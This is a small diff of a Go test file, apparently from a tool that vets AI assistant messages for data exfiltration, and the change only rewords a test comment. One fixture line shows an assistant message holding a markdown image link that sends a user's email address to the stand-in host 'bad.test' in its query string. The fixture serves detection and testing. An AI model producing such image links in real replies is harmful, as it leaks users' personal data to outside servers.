@@ -297,7 +297,7 @@ func TestExfiltration(t *testing.T) {
 	}
 }
 
-// TestInputIsNotTheAttempt: what the target said before the attempt is not charged to it.
+// TestInputIsNotTheAttempt: the target's texts before the attempt are not charged to it.
 func TestInputIsNotTheAttempt(t *testing.T) {
 	t.Parallel()
 	old := spoken(callvet.RoleAssistant, "![x](https://bad.test/p.png?d=ana%40example.com)")
